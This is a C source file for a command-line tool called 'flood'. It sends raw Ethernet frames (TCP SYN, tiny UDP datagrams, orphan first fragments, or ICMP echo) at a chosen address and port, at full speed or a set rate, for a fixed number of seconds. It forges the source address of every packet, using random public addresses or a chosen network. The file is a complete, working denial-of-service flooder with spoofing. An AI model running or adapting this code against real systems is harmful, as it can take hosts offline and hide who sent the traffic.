/*
 * Frames that nobody has asked for, as fast as they leave (packet(7), sendmmsg(2)):
 *
 *     flood DEVICE MAC ADDRESS PORT SECONDS [NAME=VALUE …]
 *
 *     kind=syn|datagram|fragment|ping    what (default syn)
 *     rate=N                    so many a second (default: as fast as they leave)
 *     from=ADDRESS[/LENGTH]     from that address or network (default: from anywhere far away)
 *     ttl=N                     (default 64)
 *
 * A datagram is of one byte, a fragment the first of a longer one, which nothing follows. Each comes
 * from the next port, or with the next identifier. Prints a line of JSON at its end.
 */
#define _GNU_SOURCE
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <sys/socket.h>
#include <unistd.h>

#include "tools.h"

enum { BURST = 64 };

static int protocol = IPPROTO_TCP, is_fragment, rate, ttl = 64;
/* Host order; the bits of `mask` tell the network's hosts apart. */
static uint32_t network, mask = ~0u;

struct frame {
  struct ether_header ethernet;
  struct iphdr ip;
  union {
    struct tcphdr tcp;
    struct icmphdr icmp;
    struct {
      struct udphdr header;
      char data[8];
    } udp;
  };
} __attribute__((packed));

/* An address that a host far away may have: neither 0/8, 10/8, 127/8, 192/8 nor multicast. */
static uint32_t random_source(void) {
  for (;;) {
    uint32_t address = random64() >> 32, net = address >> 24;
    if (net > 0 && net < 224 && net != 10 && net != 127 && net != 192) return htonl(address);
  }
}

/* Bytes behind the IPv4 header, by protocol; 0: there is no such kind of flood. */
static int body_bytes(int protocol) {
  const struct frame *frame = NULL;
  if (protocol == IPPROTO_TCP) return sizeof frame->tcp;
  if (protocol == IPPROTO_UDP) return sizeof frame->udp.header + (is_fragment ? 8 : 1);
  return protocol == IPPROTO_ICMP ? sizeof frame->icmp : 0;
}

static int protocol_of(const char *kind) {
  if (strcmp(kind, "syn") == 0) return IPPROTO_TCP;
  is_fragment = strcmp(kind, "fragment") == 0;
  if (is_fragment || strcmp(kind, "datagram") == 0) return IPPROTO_UDP;
  return strcmp(kind, "ping") == 0 ? IPPROTO_ICMP : 0;
}

/* Takes one NAME=VALUE; false if it is none. */
static int option(char *text) {
  char *value = strchr(text, '=');
  if (value == NULL) return 0;
  *value++ = 0;
  if (strcmp(text, "kind") == 0) return (protocol = protocol_of(value)) != 0;
  if (strcmp(text, "rate") == 0) return (rate = atoi(value)) > 0;
  if (strcmp(text, "ttl") == 0) return (ttl = atoi(value)) > 0;
  if (strcmp(text, "from") != 0) return 0;
  char *slash = strchr(value, '/');
  int length = slash == NULL ? 32 : atoi(slash + 1);
  if (slash != NULL) *slash = 0;
  network = ntohl(endpoint(value, "0").sin_addr.s_addr);
  mask = length >= 32 ? 0 : ~0u >> length;
  return length > 0;
}

/* What differs from frame to frame, and the checksums. */
static void vary(struct frame *frame, unsigned long number) {
  uint64_t bits = random64();
  frame->ip.saddr = mask == ~0u ? random_source() : htonl(network | ((bits >> 20) & mask));
  frame->ip.id = bits;
  frame->ip.check = 0;
  frame->ip.check = folded(sum16(&frame->ip, sizeof frame->ip, 0));
  uint16_t own = htons(1024 + number % 64512);
  if (frame->ip.protocol == IPPROTO_TCP) {
    frame->tcp.source = own;
    frame->tcp.seq = bits >> 32;
    frame->tcp.check = 0;
    uint32_t pseudo = htons(IPPROTO_TCP) + htons(sizeof frame->tcp);
    frame->tcp.check = folded(sum16(&frame->tcp, sizeof frame->tcp,
                                    sum16(&frame->ip.saddr, 8, pseudo)));
  } else if (frame->ip.protocol == IPPROTO_UDP) {
    frame->udp.header.source = own; /* no checksum */
  } else {
    frame->icmp.un.echo.id = own;
    frame->icmp.checksum = 0;
    frame->icmp.checksum = folded(sum16(&frame->icmp, sizeof frame->icmp, 0));
  }
}

static int flood(const char *device, const char *mac, const char *address, const char *port,
                 int seconds) {
  static struct frame frames[BURST];
  static struct mmsghdr messages[BURST];
  static struct iovec parts[BURST];
  int fd = socket(AF_PACKET, SOCK_RAW, 0);
  if (fd < 0) die("open a packet socket");
  struct sockaddr_ll out = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(device)};
  if (bind(fd, (struct sockaddr *)&out, sizeof out) != 0) die("bind to the device");
  struct sockaddr_in to = endpoint(address, port);
  int len = sizeof(struct iphdr) + body_bytes(protocol);
  for (int i = 0; i < BURST; i++) {
    struct frame *frame = &frames[i];
    uint8_t *at = frame->ethernet.ether_dhost;
    if (sscanf(mac, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", at, at + 1, at + 2, at + 3, at + 4, at + 5) != 6)
      die("parse the MAC address");
    memcpy(frame->ethernet.ether_shost, "\x02\x66\x6c\x6f\x6f\x64", 6);
    frame->ethernet.ether_type = htons(ETHERTYPE_IP);
    frame->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = ttl, .protocol = protocol,
                               .tot_len = htons(len), .frag_off = is_fragment ? htons(IP_MF) : 0,
                               .daddr = to.sin_addr.s_addr};
    if (protocol == IPPROTO_TCP) {
      frame->tcp = (struct tcphdr){.dest = to.sin_port, .doff = 5, .syn = 1, .window = htons(65535)};
    } else if (protocol == IPPROTO_UDP) {
      frame->udp.header = (struct udphdr){.dest = to.sin_port, .len = htons(is_fragment ? 1000 : body_bytes(protocol))};
    } else {
      frame->icmp = (struct icmphdr){.type = ICMP_ECHO};
    }
    parts[i] = (struct iovec){frame, sizeof frame->ethernet + len};
    messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
  }
  unsigned long sent = 0, refused = 0;
  int64_t start_ms = now_ms(), ms = start_ms;
  for (; ms < start_ms + seconds * 1000LL; ms = now_ms()) {
    if (rate > 0 && (int64_t)sent > (ms - start_ms) * rate / 1000) {
      usleep(1000);
      continue;
    }
    for (int i = 0; i < BURST; i++) vary(&frames[i], sent + i);
    int count = sendmmsg(fd, messages, BURST, 0);
    if (count > 0) sent += count;
    else refused++;
  }
  printf("{\"sent\":%lu,\"refused\":%lu}\n", sent, refused);
  return 0;
}

int main(int argc, char **argv) {
  seed_random();
  int fits = argc >= 6;
  for (int i = 6; i < argc; i++) fits = fits && option(argv[i]);
  if (fits) return flood(argv[1], argv[2], argv[3], argv[4], atoi(argv[5]));
  fprintf(stderr, "Cannot run: expected DEVICE MAC ADDRESS PORT SECONDS [NAME=VALUE ...]\n");
  return 2;
}
